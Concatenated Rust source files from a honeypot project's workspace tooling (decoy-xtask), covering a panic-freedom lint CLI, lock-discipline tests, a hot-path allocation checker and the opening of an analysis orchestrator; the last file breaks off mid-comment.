        assert!(f[0].message.contains("self.state.lock()"));
        assert!(f[0].message.contains("fn f"));
    }

    #[test]
    fn statement_temporary_across_await_is_flagged() {
        // the guard temporary lives to the end of the full statement,
        // including a trailing `.await`
        let src = "async fn f(&self) {\n    self.state.lock().handle().await;\n}\n";
        assert_eq!(rules(&[("a.rs", src)]), vec!["lock-await"]);
    }

    #[test]
    fn dropped_or_scoped_guards_are_fine() {
        let scoped =
            "async fn f(&self) {\n    { let g = self.state.lock(); g.touch(); }\n    io().await;\n}\n";
        assert!(rules(&[("a.rs", scoped)]).is_empty());
        let dropped = "async fn f(&self) {\n    let g = self.state.lock();\n    g.touch();\n    drop(g);\n    io().await;\n}\n";
        assert!(rules(&[("a.rs", dropped)]).is_empty());
        let stmt =
            "async fn f(&self) {\n    let n = self.state.lock().len();\n    io().await;\n}\n";
        assert!(rules(&[("a.rs", stmt)]).is_empty());
    }

    #[test]
    fn io_read_write_with_args_are_not_locks() {
        let src = "async fn f(&self) {\n    let n = sock.read(buf);\n    file.write(data);\n    io().await;\n}\n";
        assert!(rules(&[("a.rs", src)]).is_empty());
    }

    #[test]
    fn std_mutex_unwrap_binding_is_a_guard() {
        let src = "async fn f(&self) {\n    let g = self.m.lock().unwrap();\n    io().await;\n    g.touch();\n}\n";
        assert_eq!(rules(&[("a.rs", src)]), vec!["lock-await"]);
    }

    #[test]
    fn match_scrutinee_guard_covers_the_arms() {
        let src = "async fn f(&self) {\n    match self.m.lock() {\n        Ok(g) => io().await,\n        Err(_) => {}\n    }\n}\n";
        assert_eq!(rules(&[("a.rs", src)]), vec!["lock-await"]);
        // ...but a statement after the match is outside the extent
        let src = "async fn f(&self) {\n    match self.m.lock() {\n        Ok(g) => g.touch(),\n        Err(_) => {}\n    }\n    io().await;\n}\n";
        assert!(rules(&[("a.rs", src)]).is_empty());
    }

    #[test]
    fn allow_comment_suppresses_lock_await() {
        let src = "async fn f(&self) {\n    // decoy-lint: allow(lock-await) -- single-threaded runtime\n    let g = self.state.lock();\n    io().await;\n}\n";
        assert!(rules(&[("a.rs", src)]).is_empty());
    }

    #[test]
    fn opposite_order_in_two_functions_is_a_cycle() {
        let src = "fn ab(&self) {\n    let a = self.alpha.lock();\n    let b = self.beta.lock();\n}\nfn ba(&self) {\n    let b = self.beta.lock();\n    let a = self.alpha.lock();\n}\n";
        let f = run(&[("a.rs", src)]);
        assert_eq!(f.iter().filter(|f| f.rule == "lock-order").count(), 1);
        let msg = &f.iter().find(|f| f.rule == "lock-order").unwrap().message;
        assert!(
            msg.contains("a:alpha -> a:beta -> a:alpha")
                || msg.contains("a:beta -> a:alpha -> a:beta"),
            "{msg}"
        );
    }

    #[test]
    fn consistent_order_is_not_a_cycle() {
        let src = "fn ab(&self) {\n    let a = self.alpha.lock();\n    let b = self.beta.lock();\n}\nfn also_ab(&self) {\n    let a = self.alpha.lock();\n    let b = self.beta.lock();\n}\n";
        assert!(rules(&[("a.rs", src)]).is_empty());
    }

    #[test]
    fn same_lock_twice_is_a_self_loop() {
        // caller-determined order on two instances of one structure — the
        // events_eq shape
        let src = "fn eq(&self, other: &Self) {\n    let a = self.inner.read();\n    let b = other.inner.read();\n}\n";
        let f = run(&[("events.rs", src)]);
        assert_eq!(f.iter().filter(|f| f.rule == "lock-order").count(), 1);
        assert!(f[0].message.contains("events:inner -> events:inner"));
    }

    #[test]
    fn interprocedural_cycle_through_a_call() {
        let a = "fn holds_a_calls_b(&self) {\n    let g = self.alpha.lock();\n    helper(g);\n}\n";
        let b = "pub fn helper(x: G) {\n    let h = GLOBAL.beta.lock();\n    inner_ba();\n}\nfn inner_ba() {\n    let b = GLOBAL.beta.lock();\n    let a = OTHER.alpha.lock();\n}\n";
        // b.rs's inner_ba acquires beta then alpha; a.rs holds alpha across a
        // call that (transitively) acquires beta ⇒ alpha→beta→alpha... but
        // node names are file-qualified, so make both live in one file
        let merged = format!("{a}{b}");
        let f = run(&[("m.rs", &merged)]);
        assert!(
            f.iter().any(|f| f.rule == "lock-order"),
            "expected a cycle, got {f:?}"
        );
    }

    #[test]
    fn allow_comment_suppresses_ordering_edges() {
        let src = "fn eq(&self, other: &Self) {\n    // decoy-lint: allow(lock-order) -- address-ordered acquisition\n    let a = self.inner.read();\n    let b = other.inner.read();\n}\n";
        assert!(rules(&[("events.rs", src)]).is_empty());
    }

    #[test]
    fn test_code_is_exempt() {
        let src = "#[cfg(test)]\nmod tests {\n    async fn f(&self) {\n        let g = m.lock();\n        io().await;\n    }\n}\n";
        assert!(rules(&[("a.rs", src)]).is_empty());
    }

    #[test]
    fn nested_closure_acquisitions_get_edges_not_awaits() {
        // the fleet_health shape: outer lock held while inner lock taken
        // inside an iterator closure — an edge, but no cycle and no await
        let src = "fn health(&self) -> F {\n    F { l: self.slots.lock().iter().map(|s| s.lock().clone()).collect() }\n}\n";
        assert!(rules(&[("sup.rs", src)]).is_empty());
    }
}
