#![forbid(unsafe_code)]
//! # decoy-xtask
//!
//! Workspace automation, run as `cargo run -p decoy-xtask -- <command>`.
//!
//! The only command today is `lint`: the panic-freedom audit of the
//! attacker-facing byte path. It walks the workspace source (no network, no
//! dependencies), applies the rules in [`lint`] to every *enforced* module —
//! the `decoy-wire` decoders, the `decoy-net` codec/server/proxy layers, the
//! honeypot read paths, and the event store — and checks every crate root
//! for `#![forbid(unsafe_code)]`. Diagnostics are `file:line:col` (or
//! `--json` for machines) and the exit code is the contract CI relies on:
//!
//! * `0` — clean
//! * `1` — findings
//! * `2` — usage or I/O error

mod lint;

use std::path::{Path, PathBuf};
use std::process::ExitCode;

/// Modules where the full rule set applies. Everything under these paths
/// parses or serves attacker-controlled bytes.
const ENFORCED_PREFIXES: [&str; 2] = ["crates/decoy-wire/src/", "crates/decoy-honeypots/src/"];

/// Individually enforced files outside the blanket prefixes.
const ENFORCED_FILES: [&str; 12] = [
    "crates/decoy-net/src/codec.rs",
    "crates/decoy-net/src/cursor.rs",
    "crates/decoy-net/src/framed.rs",
    "crates/decoy-net/src/error.rs",
    "crates/decoy-net/src/server.rs",
    "crates/decoy-net/src/proxy.rs",
    "crates/decoy-net/src/limiter.rs",
    "crates/decoy-net/src/supervisor.rs",
    "crates/decoy-net/src/chaos.rs",
    "crates/decoy-store/src/events.rs",
    // the journal's recovery path parses potentially corrupt on-disk bytes
    "crates/decoy-store/src/journal/decode.rs",
    // the segment/tail streaming layer parses the same untrusted bytes
    "crates/decoy-store/src/journal/stream.rs",
];

/// True when the full rule set applies to `rel` (workspace-relative, `/`
/// separated).
fn is_enforced(rel: &str) -> bool {
    ENFORCED_PREFIXES.iter().any(|p| rel.starts_with(p)) || ENFORCED_FILES.contains(&rel)
}

/// Workspace root: `--root` wins, then the manifest dir's grandparent
/// (`crates/decoy-xtask` → repo root), then the current directory.
fn workspace_root(explicit: Option<&str>) -> PathBuf {
    if let Some(r) = explicit {
        return PathBuf::from(r);
    }
    if let Ok(manifest) = std::env::var("CARGO_MANIFEST_DIR") {
        let p = PathBuf::from(&manifest);
        if let Some(root) = p.parent().and_then(Path::parent) {
            if root.join("Cargo.toml").is_file() {
                return root.to_path_buf();
            }
        }
    }
    PathBuf::from(".")
}

/// All `.rs` files under `dir`, recursively, sorted for stable output.
fn rust_files(dir: &Path, out: &mut Vec<PathBuf>) -> std::io::Result<()> {
    let mut entries: Vec<_> = std::fs::read_dir(dir)?.collect::<Result<_, _>>()?;
    entries.sort_by_key(|e| e.file_name());
    for entry in entries {
        let path = entry.path();
        if path.is_dir() {
            rust_files(&path, out)?;
        } else if path.extension().is_some_and(|e| e == "rs") {
            out.push(path);
        }
    }
    Ok(())
}

/// The workspace-relative, `/`-separated form of `path`.
fn rel_of(root: &Path, path: &Path) -> String {
    path.strip_prefix(root)
        .unwrap_or(path)
        .components()
        .map(|c| c.as_os_str().to_string_lossy().into_owned())
        .collect::<Vec<_>>()
        .join("/")
}

fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

fn report_json(findings: &[lint::Finding]) -> String {
    let mut out = String::from("{\"findings\":[");
    for (i, f) in findings.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&format!(
            "{{\"file\":\"{}\",\"line\":{},\"col\":{},\"rule\":\"{}\",\"message\":\"{}\"}}",
            json_escape(&f.file),
            f.line,
            f.col,
            f.rule,
            json_escape(&f.message)
        ));
    }
    out.push_str(&format!("],\"count\":{}}}", findings.len()));
    out
}

/// Run the lint over the workspace at `root`. Returns all findings, or an
/// I/O error message.
fn run_lint(root: &Path) -> Result<Vec<lint::Finding>, String> {
    // a mistyped --root must not report success over an empty walk
    if !root.join("Cargo.toml").is_file() {
        return Err(format!(
            "{} is not a workspace root (no Cargo.toml)",
            root.display()
        ));
    }
    let mut files = Vec::new();
    let crates_dir = root.join("crates");
    let mut crate_src_dirs: Vec<PathBuf> = vec![root.join("src")];
    if crates_dir.is_dir() {
        let mut entries: Vec<_> = std::fs::read_dir(&crates_dir)
            .map_err(|e| format!("read {}: {e}", crates_dir.display()))?
            .collect::<Result<_, _>>()
            .map_err(|e| format!("read {}: {e}", crates_dir.display()))?;
        entries.sort_by_key(|e| e.file_name());
        for entry in entries {
            crate_src_dirs.push(entry.path().join("src"));
        }
    }
    let mut findings = Vec::new();
    for src_dir in &crate_src_dirs {
        if !src_dir.is_dir() {
            continue;
        }
        rust_files(src_dir, &mut files).map_err(|e| format!("walk {}: {e}", src_dir.display()))?;
        // crate-root unsafe wall applies to every crate, enforced or not
        for rootfile in ["lib.rs", "main.rs"] {
            let candidate = src_dir.join(rootfile);
            if candidate.is_file() {
                let rel = rel_of(root, &candidate);
                let src =
                    std::fs::read_to_string(&candidate).map_err(|e| format!("read {rel}: {e}"))?;
                findings.extend(lint::check_forbid_unsafe(&rel, &src));
            }
        }
    }
    files.sort();
    files.dedup();
    for path in &files {
        let rel = rel_of(root, path);
        if !is_enforced(&rel) {
            continue;
        }
        let src = std::fs::read_to_string(path).map_err(|e| format!("read {rel}: {e}"))?;
        findings.extend(lint::lint_source(&rel, &src));
    }
    Ok(findings)
}

const USAGE: &str = "usage: decoy-xtask lint [--json] [--root <path>]";

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let mut cmd = None;
    let mut json = false;
    let mut root_arg: Option<String> = None;
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--json" => json = true,
            "--root" => match it.next() {
                Some(v) => root_arg = Some(v.clone()),
                None => {
                    eprintln!("{USAGE}");
                    return ExitCode::from(2);
                }
            },
            "lint" if cmd.is_none() => cmd = Some("lint"),
            other => {
                eprintln!("unknown argument {other:?}\n{USAGE}");
                return ExitCode::from(2);
            }
        }
    }
    if cmd != Some("lint") {
        eprintln!("{USAGE}");
        return ExitCode::from(2);
    }
    let root = workspace_root(root_arg.as_deref());
    match run_lint(&root) {
        Err(msg) => {
            eprintln!("decoy-xtask lint: {msg}");
            ExitCode::from(2)
        }
        Ok(findings) if findings.is_empty() => {
            if json {
                println!("{}", report_json(&findings));
            } else {
                println!("decoy-xtask lint: clean (byte path is panic-free by construction)");
            }
            ExitCode::SUCCESS
        }
        Ok(findings) => {
            if json {
                println!("{}", report_json(&findings));
            } else {
                for f in &findings {
                    println!("{}", f.render());
                }
                println!("decoy-xtask lint: {} finding(s)", findings.len());
            }
            ExitCode::from(1)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn enforced_set_covers_the_byte_path() {
        assert!(is_enforced("crates/decoy-wire/src/pgwire.rs"));
        assert!(is_enforced("crates/decoy-wire/src/mongo/bson.rs"));
        assert!(is_enforced("crates/decoy-honeypots/src/low.rs"));
        assert!(is_enforced("crates/decoy-net/src/codec.rs"));
        assert!(is_enforced("crates/decoy-net/src/supervisor.rs"));
        assert!(is_enforced("crates/decoy-net/src/chaos.rs"));
        assert!(is_enforced("crates/decoy-store/src/events.rs"));
        assert!(is_enforced("crates/decoy-store/src/journal/decode.rs"));
        assert!(is_enforced("crates/decoy-store/src/journal/stream.rs"));
        // the journal write path never parses untrusted bytes
        assert!(!is_enforced("crates/decoy-store/src/journal/encode.rs"));
        // analysis/reporting code is out of scope
        assert!(!is_enforced("crates/decoy-analysis/src/lib.rs"));
        assert!(!is_enforced("crates/decoy-net/src/time.rs"));
        assert!(!is_enforced("src/main.rs"));
    }

    #[test]
    fn json_report_is_well_formed() {
        let f = lint::Finding {
            file: "a \"b\".rs".into(),
            line: 3,
            col: 9,
            rule: "unwrap",
            message: "bad\nthing".into(),
        };
        let j = report_json(&[f]);
        assert!(j.contains("\"file\":\"a \\\"b\\\".rs\""));
        assert!(j.contains("\"line\":3"));
        assert!(j.contains("\\nthing"));
        assert!(j.ends_with("\"count\":1}"));
        assert_eq!(report_json(&[]), "{\"findings\":[],\"count\":0}");
    }
}
