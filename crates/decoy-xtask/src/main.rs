#![forbid(unsafe_code)]
//! Thin CLI over the `decoy_xtask` library.
//!
//! * `lint` — the panic-freedom audit of the attacker-facing byte path
//!   (kept for muscle memory; `analyze` is a superset).
//! * `analyze` — all static-analysis passes (lint, lock-discipline,
//!   hot-path allocation, bench freshness) with the suppression baseline.
//!
//! Exit codes are the contract CI relies on:
//!
//! * `0` — clean
//! * `1` — findings
//! * `2` — usage or I/O error

use std::path::{Path, PathBuf};
use std::process::ExitCode;

use decoy_xtask::{analyze, diag};

/// Workspace root: `--root` wins, then the manifest dir's grandparent
/// (`crates/decoy-xtask` → repo root), then the current directory.
fn workspace_root(explicit: Option<&str>) -> PathBuf {
    if let Some(r) = explicit {
        return PathBuf::from(r);
    }
    if let Ok(manifest) = std::env::var("CARGO_MANIFEST_DIR") {
        let p = PathBuf::from(&manifest);
        if let Some(root) = p.parent().and_then(Path::parent) {
            if root.join("Cargo.toml").is_file() {
                return root.to_path_buf();
            }
        }
    }
    PathBuf::from(".")
}

const USAGE: &str = "usage: decoy-xtask <command> [options]\n\
\n\
commands:\n\
  lint      panic-freedom audit of the byte path (subset of analyze)\n\
  analyze   all passes: lint, lock-discipline, hot-path alloc, bench freshness\n\
\n\
options:\n\
  --json             machine-readable report on stdout\n\
  --root <path>      workspace root (default: inferred)\n\
  --no-baseline      analyze: ignore ANALYSIS_BASELINE.json (raw view)\n\
  --write-baseline   analyze: regenerate ANALYSIS_BASELINE.json from findings";

/// The old standalone `lint` walk: enforced byte-path files only.
fn run_lint(root: &Path) -> Result<Vec<diag::Finding>, String> {
    let outcome = analyze::run(&analyze::Options {
        root: root.to_path_buf(),
        use_baseline: false,
        write_baseline: false,
    })?;
    Ok(outcome
        .findings
        .into_iter()
        .filter(|f| f.pass == "lint")
        .collect())
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let mut cmd: Option<&str> = None;
    let mut json = false;
    let mut root_arg: Option<String> = None;
    let mut use_baseline = true;
    let mut write_baseline = false;
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--json" => json = true,
            "--no-baseline" => use_baseline = false,
            "--write-baseline" => write_baseline = true,
            "--root" => match it.next() {
                Some(v) => root_arg = Some(v.clone()),
                None => {
                    eprintln!("{USAGE}");
                    return ExitCode::from(2);
                }
            },
            "lint" if cmd.is_none() => cmd = Some("lint"),
            "analyze" if cmd.is_none() => cmd = Some("analyze"),
            other => {
                eprintln!("unknown argument {other:?}\n{USAGE}");
                return ExitCode::from(2);
            }
        }
    }
    let root = workspace_root(root_arg.as_deref());
    match cmd {
        Some("lint") => match run_lint(&root) {
            Err(msg) => {
                eprintln!("decoy-xtask lint: {msg}");
                ExitCode::from(2)
            }
            Ok(findings) => {
                if json {
                    println!("{}", diag::report_json(&findings, 0, 0));
                } else if findings.is_empty() {
                    println!("decoy-xtask lint: clean (byte path is panic-free by construction)");
                } else {
                    for f in &findings {
                        println!("{}", f.render());
                    }
                    println!("decoy-xtask lint: {} finding(s)", findings.len());
                }
                if findings.is_empty() {
                    ExitCode::SUCCESS
                } else {
                    ExitCode::from(1)
                }
            }
        },
        Some("analyze") => {
            let opts = analyze::Options {
                root,
                use_baseline,
                write_baseline,
            };
            match analyze::run(&opts) {
                Err(msg) => {
                    eprintln!("decoy-xtask analyze: {msg}");
                    ExitCode::from(2)
                }
                Ok(outcome) => {
                    if let Some(path) = &outcome.wrote_baseline {
                        eprintln!(
                            "decoy-xtask analyze: wrote {} ({} entr{}) — review the diff",
                            path.display(),
                            outcome.suppressed,
                            if outcome.suppressed == 1 { "y" } else { "ies" }
                        );
                        return ExitCode::SUCCESS;
                    }
                    if json {
                        println!("{}", outcome.json);
                    } else {
                        for f in &outcome.findings {
                            println!("{}", f.render());
                        }
                        println!(
                            "decoy-xtask analyze: {} finding(s), {} suppressed by baseline",
                            outcome.findings.len(),
                            outcome.suppressed
                        );
                    }
                    if outcome.stale_baseline > 0 {
                        eprintln!(
                            "decoy-xtask analyze: warning: {} stale baseline entr{} \
                             (fixed code still excused) — regenerate with --write-baseline",
                            outcome.stale_baseline,
                            if outcome.stale_baseline == 1 {
                                "y"
                            } else {
                                "ies"
                            }
                        );
                    }
                    if outcome.findings.is_empty() {
                        ExitCode::SUCCESS
                    } else {
                        ExitCode::from(1)
                    }
                }
            }
        }
        _ => {
            eprintln!("{USAGE}");
            ExitCode::from(2)
        }
    }
}
