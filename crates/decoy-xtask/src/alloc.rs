//! Hot-path allocation pass: ban per-frame heap allocation in modules
//! tagged as serving the wire hot path.
//!
//! Tagging is explicit and in-file, so the blast radius is visible where
//! the code lives:
//!
//! ```text
//! // decoy-hot-path: file -- per-connection decode loop, one call per frame
//! // decoy-hot-path: fn -- append_locked runs under the store write lock
//! ```
//!
//! `file` scope covers the whole file; `fn` scope covers the next `fn` item
//! after the tag. Untagged files are ignored by this pass; the orchestrator
//! separately checks a registry of files that are *expected* to carry a tag
//! (`hot-path-tag-missing`) so tags cannot silently vanish.
//!
//! Inside a hot region these allocate per call and are banned:
//!
//! | rule | rejects |
//! |---|---|
//! | `alloc-vec` | `Vec::new()` / `Vec::with_capacity(..)` |
//! | `alloc-to-vec` | `.to_vec()` |
//! | `alloc-clone` | `.clone()` |
//! | `alloc-format` | `format!(..)` |
//! | `alloc-box` | `Box::new(..)` |
//! | `alloc-string-from` | `String::from(..)` (exactly `from`; `from_utf8` etc. are distinct idents) |
//!
//! Escape hatch: `// decoy-lint: allow(alloc-*) -- <reason>`, same semantics
//! as every other rule. Cold error arms, one-time setup, and genuinely
//! necessary copies go through the allow comment or the suppression
//! baseline; the point is that each one is *written down*.

use crate::diag::{Finding, SourceFile};
use crate::tok::TokKind;

/// Scope of one `decoy-hot-path:` tag.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum TagScope {
    File,
    Fn,
}

/// Parsed tags: (1-based line, scope); malformed tags become findings.
fn parse_tags(sf: &SourceFile) -> (Vec<(usize, TagScope)>, Vec<Finding>) {
    let mut tags = Vec::new();
    let mut bad = Vec::new();
    for (idx, line) in sf.src.lines().enumerate() {
        let lineno = idx + 1;
        let Some(pos) = line.find("decoy-hot-path:") else {
            continue;
        };
        let after = line
            .get(pos + "decoy-hot-path:".len()..)
            .unwrap_or_default()
            .trim_start();
        let scope = if after.starts_with("file") {
            Some(TagScope::File)
        } else if after.starts_with("fn") {
            Some(TagScope::Fn)
        } else {
            None
        };
        let has_reason = after
            .split_once("--")
            .is_some_and(|(_, r)| !r.trim().is_empty());
        match scope {
            Some(s) if has_reason => tags.push((lineno, s)),
            _ => bad.push(Finding {
                file: sf.rel.clone(),
                line: lineno,
                col: pos + 1,
                rule: "bad-hot-path-tag",
                pass: "alloc",
                message: "malformed decoy-hot-path tag: expected \
                          `decoy-hot-path: file|fn -- <reason>`"
                    .to_string(),
            }),
        }
    }
    (tags, bad)
}

/// True when `sf` carries any well-formed hot-path tag (used by the
/// orchestrator's expected-files registry).
pub fn has_tag(sf: &SourceFile) -> bool {
    let (tags, _) = parse_tags(sf);
    !tags.is_empty()
}

/// 1-based-line hot mask for `sf` (index 0 unused).
fn hot_lines(sf: &SourceFile, tags: &[(usize, TagScope)]) -> Vec<bool> {
    let nlines = sf.src.lines().count();
    let mut hot = vec![false; nlines + 1];
    for &(tagline, scope) in tags {
        match scope {
            TagScope::File => {
                for slot in hot.iter_mut() {
                    *slot = true;
                }
                return hot;
            }
            TagScope::Fn => {
                // the next fn item at or below the tag
                let target = sf
                    .fns
                    .iter()
                    .filter(|f| f.line >= tagline)
                    .min_by_key(|f| f.line);
                let Some(f) = target else { continue };
                let end_line = f
                    .body
                    .and_then(|(_, close)| sf.toks.get(close))
                    .map(|t| t.line)
                    .unwrap_or(f.line);
                for l in f.line..=end_line {
                    if let Some(slot) = hot.get_mut(l) {
                        *slot = true;
                    }
                }
            }
        }
    }
    hot
}

/// True when tokens at `i` spell `First::second(` (path call).
fn path_call(sf: &SourceFile, i: usize, first: &str, second: &str) -> bool {
    sf.toks
        .get(i)
        .is_some_and(|t| t.is_ident(&sf.stripped, first))
        && sf.toks.get(i + 1).map(|t| t.kind) == Some(TokKind::Punct(b':'))
        && sf.toks.get(i + 2).map(|t| t.kind) == Some(TokKind::Punct(b':'))
        && sf
            .toks
            .get(i + 3)
            .is_some_and(|t| t.is_ident(&sf.stripped, second))
        && sf.toks.get(i + 4).map(|t| t.kind) == Some(TokKind::Punct(b'('))
}

/// Run the allocation rules over one file. Files without a hot-path tag
/// yield only malformed-tag findings.
pub fn check(sf: &SourceFile) -> Vec<Finding> {
    let (tags, mut findings) = parse_tags(sf);
    if tags.is_empty() {
        return findings;
    }
    let hot = hot_lines(sf, &tags);
    let mut push = |line: usize, col: usize, rule: &'static str, message: String| {
        findings.push(Finding {
            file: sf.rel.clone(),
            line,
            col,
            rule,
            pass: "alloc",
            message,
        });
    };
    for (i, t) in sf.toks.iter().enumerate() {
        if !hot.get(t.line).copied().unwrap_or(false) || sf.in_test_at(i) {
            continue;
        }
        let prev_dot = i
            .checked_sub(1)
            .and_then(|p| sf.toks.get(p))
            .map(|p| p.kind == TokKind::Punct(b'.'))
            .unwrap_or(false);
        let next_paren = sf.toks.get(i + 1).map(|t| t.kind) == Some(TokKind::Punct(b'('));
        match t.kind {
            TokKind::Ident => {
                let word = t.text(&sf.stripped);
                match word {
                    "Vec"
                        if (path_call(sf, i, "Vec", "new")
                            || path_call(sf, i, "Vec", "with_capacity")) =>
                    {
                        if !sf.allowed(t.line, "alloc-vec") {
                            let ctor = sf.text(i + 3).to_string();
                            push(
                                t.line,
                                t.col,
                                "alloc-vec",
                                format!(
                                    "Vec::{ctor} allocates on the hot path; reuse a \
                                     caller-provided buffer"
                                ),
                            );
                        }
                    }
                    "Box" if path_call(sf, i, "Box", "new") => {
                        if !sf.allowed(t.line, "alloc-box") {
                            push(
                                t.line,
                                t.col,
                                "alloc-box",
                                "Box::new allocates on the hot path; store by value or \
                                 preallocate"
                                    .to_string(),
                            );
                        }
                    }
                    "String" if path_call(sf, i, "String", "from") => {
                        if !sf.allowed(t.line, "alloc-string-from") {
                            push(
                                t.line,
                                t.col,
                                "alloc-string-from",
                                "String::from allocates on the hot path; borrow a &str or \
                                 intern"
                                    .to_string(),
                            );
                        }
                    }
                    "to_vec" if prev_dot && next_paren => {
                        if !sf.allowed(t.line, "alloc-to-vec") {
                            push(
                                t.line,
                                t.col,
                                "alloc-to-vec",
                                ".to_vec() copies the frame on the hot path; borrow the \
                                 slice instead"
                                    .to_string(),
                            );
                        }
                    }
                    "clone" if prev_dot && next_paren => {
                        if !sf.allowed(t.line, "alloc-clone") {
                            push(
                                t.line,
                                t.col,
                                "alloc-clone",
                                ".clone() on the hot path; borrow or take ownership once"
                                    .to_string(),
                            );
                        }
                    }
                    "format"
                        if sf.toks.get(i + 1).map(|t| t.kind) == Some(TokKind::Punct(b'!')) =>
                    {
                        if !sf.allowed(t.line, "alloc-format") {
                            push(
                                t.line,
                                t.col,
                                "alloc-format",
                                "format! allocates a String per call on the hot path; write \
                                 into a reused buffer"
                                    .to_string(),
                            );
                        }
                    }
                    _ => {}
                }
            }
            _ => {}
        }
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules_of(src: &str) -> Vec<&'static str> {
        check(&SourceFile::new("t.rs", src))
            .into_iter()
            .map(|f| f.rule)
            .collect()
    }

    const FILE_TAG: &str = "// decoy-hot-path: file -- test decode loop\n";

    #[test]
    fn untagged_files_are_ignored() {
        let src = "fn f() { let v = Vec::new(); let s = format!(\"x\"); b.to_vec(); }";
        assert!(rules_of(src).is_empty());
    }

    #[test]
    fn file_tag_bans_all_six() {
        let src = format!(
            "{FILE_TAG}fn f() {{\n    let v: Vec<u8> = Vec::new();\n    let w = Vec::with_capacity(8);\n    let b = x.to_vec();\n    let c = y.clone();\n    let s = format!(\"{{z}}\");\n    let bx = Box::new(1);\n    let st = String::from(\"a\");\n}}\n"
        );
        assert_eq!(
            rules_of(&src),
            vec![
                "alloc-vec",
                "alloc-vec",
                "alloc-to-vec",
                "alloc-clone",
                "alloc-format",
                "alloc-box",
                "alloc-string-from",
            ]
        );
    }

    #[test]
    fn lookalikes_are_not_flagged() {
        let src = format!(
            "{FILE_TAG}fn f() {{\n    let a = String::from_utf8(v);\n    let b = String::from_utf8_lossy(&v);\n    let c = x.clone_from_slice(&y);\n    let d = x.to_vec_deque;\n    let e = VecDeque::new();\n}}\n"
        );
        // VecDeque::new is a different ident than Vec — not matched
        assert!(rules_of(&src).is_empty(), "{:?}", rules_of(&src));
    }

    #[test]
    fn fn_tag_covers_only_the_next_fn() {
        let src = "fn cold() { let v = Vec::new(); }\n// decoy-hot-path: fn -- under the write lock\nfn hot(&self) { let v = Vec::new(); }\nfn cold2() { let v = Vec::new(); }\n";
        let f = check(&SourceFile::new("t.rs", src));
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].line, 3);
    }

    #[test]
    fn allow_comment_and_tests_are_exempt() {
        let src = format!(
            "{FILE_TAG}fn f() {{\n    // decoy-lint: allow(alloc-clone) -- cold error arm\n    let c = y.clone();\n}}\n#[cfg(test)]\nmod tests {{\n    fn t() {{ let v = Vec::new(); }}\n}}\n"
        );
        assert!(rules_of(&src).is_empty());
    }

    #[test]
    fn malformed_tag_is_a_finding() {
        let src = "// decoy-hot-path: file\nfn f() {}\n";
        assert_eq!(rules_of(src), vec!["bad-hot-path-tag"]);
        let src = "// decoy-hot-path: module -- reason\nfn f() {}\n";
        assert_eq!(rules_of(src), vec!["bad-hot-path-tag"]);
    }

    #[test]
    fn has_tag_reflects_wellformed_tags_only() {
        assert!(has_tag(&SourceFile::new("t.rs", FILE_TAG)));
        assert!(has_tag(&SourceFile::new(
            "t.rs",
            "// decoy-hot-path: fn -- locked append\nfn f() {}"
        )));
        assert!(!has_tag(&SourceFile::new("t.rs", "fn f() {}")));
        assert!(!has_tag(&SourceFile::new(
            "t.rs",
            "// decoy-hot-path: file"
        )));
    }
}
