//! The `analyze` orchestrator: walks the workspace once, builds a
//! [`SourceFile`] per module, runs every pass over its scope, and applies
//! the suppression baseline.
//!
//! Pass scopes:
//!
//! * **lint** (panic-freedom) — the enforced byte-path set
//!   ([`ENFORCED_PREFIXES`] / [`ENFORCED_FILES`]), plus the crate-root
//!   `#![forbid(unsafe_code)]` wall for every crate.
//! * **locks** — everything under `decoy-net`, `decoy-store`, and
//!   `decoy-core` (`src/` trees), analyzed together as one program so
//!   inter-file call chains contribute lock-order edges.
//! * **alloc** — every workspace `.rs` file (tags opt modules in), plus the
//!   [`HOT_PATH_EXPECTED`] registry: files that *must* carry a
//!   `decoy-hot-path` tag so coverage cannot silently regress.
//! * **bench** — `BENCH_*.json` at the workspace root, with the PR ordinal
//!   derived from `CHANGES.md`.
//!
//! The baseline (`ANALYSIS_BASELINE.json`) is applied last, uniformly:
//! a finding matching an unexhausted `(file, rule, trimmed-line)` entry is
//! suppressed and counted; everything else fails the run. Regenerate with
//! `--write-baseline` after reviewing what it would hide.

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use crate::diag::{report_json, Baseline, Finding, SourceFile};
use crate::{alloc, bench, lint, locks};

/// Modules where the full panic-freedom rule set applies. Everything under
/// these paths parses or serves attacker-controlled bytes.
pub const ENFORCED_PREFIXES: [&str; 2] = ["crates/decoy-wire/src/", "crates/decoy-honeypots/src/"];

/// Individually enforced files outside the blanket prefixes.
pub const ENFORCED_FILES: [&str; 14] = [
    "crates/decoy-net/src/codec.rs",
    "crates/decoy-net/src/cursor.rs",
    "crates/decoy-net/src/framed.rs",
    "crates/decoy-net/src/error.rs",
    "crates/decoy-net/src/server.rs",
    "crates/decoy-net/src/proxy.rs",
    "crates/decoy-net/src/limiter.rs",
    "crates/decoy-net/src/supervisor.rs",
    "crates/decoy-net/src/chaos.rs",
    // the latency shaper sits on every accept/response path
    "crates/decoy-net/src/latency.rs",
    "crates/decoy-store/src/events.rs",
    // the journal's recovery path parses potentially corrupt on-disk bytes
    "crates/decoy-store/src/journal/decode.rs",
    // the segment/tail streaming layer parses the same untrusted bytes
    "crates/decoy-store/src/journal/stream.rs",
    // the probe engine parses live honeypot responses (attacker-shaped bytes)
    "crates/decoy-fingerprint/src/probes.rs",
];

/// Crate `src/` trees the lock-discipline pass analyzes as one program.
pub const LOCK_SCOPE: [&str; 3] = [
    "crates/decoy-net/src/",
    "crates/decoy-store/src/",
    "crates/decoy-core/src/",
];

/// Files that must carry a `decoy-hot-path` tag: the six wire decoders,
/// the journal decode path, the codec write path, the store's
